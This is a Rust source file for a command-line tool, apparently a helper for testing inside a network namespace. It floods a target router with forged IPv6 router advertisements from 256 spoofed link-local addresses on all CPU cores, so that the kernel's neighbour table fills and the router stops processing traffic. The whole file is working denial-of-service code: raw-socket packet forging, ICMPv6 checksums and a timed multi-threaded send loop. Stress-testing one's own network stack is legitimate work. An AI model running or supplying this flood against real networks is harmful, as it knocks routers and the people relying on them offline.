//! Floods a router with router advertisements from forged addresses of its link.
//!
//! A separate program because it must run inside a network namespace: `forge_ra INTERFACE TARGET SECONDS`.
//! Sends as fast as all cores can, from 256 link-local addresses in turn, every fourth with a hop limit
//! that makes it invalid. The receiving kernel makes a neighbour entry for each source: with more of
//! them than it has room for, it would spend its time there and receive few. They go to the target's
//! link-local address: the kernel sends few to a group. Prints how many it sent.

use std::net::{Ipv6Addr, SocketAddrV6};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use socket2::{Domain, Protocol, Socket, Type};

/// The IPv6 header and a router advertisement without options.
const LEN: usize = 40 + 16;
const ICMPV6: u8 = 58;

fn main() -> Result<()> {
    let [interface, target, seconds] =
        std::env::args().skip(1).collect::<Vec<_>>().try_into().ok().context("three arguments")?;
    let index: u32 = std::fs::read_to_string(format!("/sys/class/net/{interface}/ifindex"))?
        .trim()
        .parse()
        .context("no index")?;
    let target: Ipv6Addr = target.parse()?;
    let limit = Duration::from_secs(seconds.parse()?);
    let to = SocketAddrV6::new(target, 0, 0, index);
    // The sender's core also receives: several cores reach a higher rate.
    let cores = std::thread::available_parallelism()?.get();
    let senders: Vec<_> =
        (0..cores).map(|first| std::thread::spawn(move || send(to, first, cores, limit))).collect();
    let mut sent = 0;
    for sender in senders {
        sent += sender.join().ok().context("a sender died")??;
    }
    println!("{sent}");
    Ok(())
}

/// Sends every `step`th packet from `first` on for this long. Returns how many.
fn send(to: SocketAddrV6, first: usize, step: usize, limit: Duration) -> Result<u64> {
    // With this protocol the header is ours: source address and hop limit.
    let raw = Protocol::from(255);
    let socket = Socket::new(Domain::IPV6, Type::RAW, Some(raw)).context("CAP_NET_RAW")?;
    let address = to.into();
    let (begin, mut number, mut sent) = (Instant::now(), first, 0);
    while begin.elapsed() < limit {
        for _ in 0..256 {
            // The kernel refuses some while it resolves the target.
            let octets = packet(number as u16, *to.ip());
            sent += u64::from(socket.send_to(&octets, &address).is_ok());
            number += step;
        }
    }
    Ok(sent)
}

fn packet(number: u16, target: Ipv6Addr) -> [u8; LEN] {
    let source = Ipv6Addr::new(0xfe80, 0, 0, 0, 0xf0, 0, 0, number % 256);
    let mut octets = [0; LEN];
    octets[0] = 0x60;
    octets[5] = 16;
    octets[6] = ICMPV6;
    octets[7] = if number % 4 == 3 { 64 } else { 255 };
    octets[8..24].copy_from_slice(&source.octets());
    octets[24..40].copy_from_slice(&target.octets());
    octets[40] = 134;
    let sum = checksum(&octets);
    octets[42..44].copy_from_slice(&sum.to_be_bytes());
    octets
}

/// RFC 4443 §2.3: over the pseudo-header and the message.
fn checksum(octets: &[u8; LEN]) -> u16 {
    let words =
        octets[8..].as_chunks::<2>().0.iter().map(|word| u32::from(u16::from_be_bytes(*word)));
    let mut sum = words.sum::<u32>() + 16 + u32::from(ICMPV6);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}
